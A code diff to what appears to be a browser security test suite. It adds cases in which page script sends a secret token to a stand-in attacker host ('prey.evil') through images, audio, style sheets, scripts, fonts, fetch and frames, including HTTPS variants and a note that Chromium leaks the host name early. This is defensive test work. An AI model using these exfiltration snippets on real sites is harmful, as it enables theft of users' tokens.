@@ -6,8 +6,17 @@ import type { BrowserAttack, Run } from './browser-attack.ts';
  */
 const outside = (name: string, run: Run): BrowserAttack => ({ threat: 'T42, T45', from: 'our own page', name, run });
 
-/** An element that loads something from elsewhere. */
-const element = (tag: string, attribute: string, more: Readonly<Record<string, string>> = {}): Run =>
+/**
+ * An element that loads something from elsewhere.
+ *
+ * @param from the beginning of its address, as an expression of JavaScript
+ */
+const element = (
+  tag: string,
+  attribute: string,
+  more: Readonly<Record<string, string>> = {},
+  from = "prey.evil + '/'",
+): Run =>
   `(prey) => new Promise((done) => {
     const element = document.createElement(${JSON.stringify(tag)});
     for (const [name, value] of Object.entries(${JSON.stringify(more)})) element.setAttribute(name, value);
@@ -15,12 +24,17 @@ const element = (tag: string, attribute: string, more: Readonly<Record<string, s
     element.onerror = () => done('refused');
     document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
     try {
-      element.setAttribute(${JSON.stringify(attribute)}, prey.evil + '/' + prey.token);
+      element.setAttribute(${JSON.stringify(attribute)}, ${from} + prey.token);
       document.body.append(element);
     } catch {
       done('refused');
     }
   })`;
+
+/** The server of the attacker speaks no TLS: that somebody begins to is what reaches it. */
+const BY_TLS = "prey.evil.replace('http:', 'https:') + '/'";
+/** An image that needs no server; what follows `#` is no part of it. */
+const IN_LINE = "'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==#'";
 
 const fetched = (init: RequestInit): Run =>
   `(prey) => fetch(prey.evil + '/' + prey.token, ${JSON.stringify(init)}).then(() => 'sent', () => 'refused')`;
@@ -72,6 +86,23 @@ export const OUTSIDE_ATTACKS: readonly BrowserAttack[] = [
       }),
   ),
   outside('an image', element('img', 'src')),
+  outside('an image by TLS', element('img', 'src', {}, BY_TLS)),
+  outside('an image that stands in its address', element('img', 'src', {}, IN_LINE)),
+  outside('a sound by TLS', element('audio', 'src', {}, BY_TLS)),
+  outside('a style sheet by TLS', element('link', 'href', { rel: 'stylesheet' }, BY_TLS)),
+  outside('a script by TLS', element('script', 'src', {}, BY_TLS)),
+  outside('a font by TLS', ({ evil, token }) =>
+    new FontFace('stolen', `url(${evil.replace('http:', 'https:')}/${token})`).load().then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  ),
+  outside('fetch by TLS', ({ evil, token }) =>
+    fetch(`${evil.replace('http:', 'https:')}/${token}`, { mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  ),
   outside('a picture set', element('img', 'srcset')),
   outside('a video', element('video', 'src')),
   outside('a poster', element('video', 'poster')),
@@ -165,4 +196,6 @@ export const UNSTOPPABLE_ATTACKS: readonly BrowserAttack[] = [
     location.href = `${evil}/${token}`;
     return new Promise(() => undefined);
   }),
+  // Chromium connects before it asks the policy. The address is not sent, but the name of the host is.
+  outside('the beginning of a connection, for a frame that is refused', element('iframe', 'src', {}, BY_TLS)),
 ];
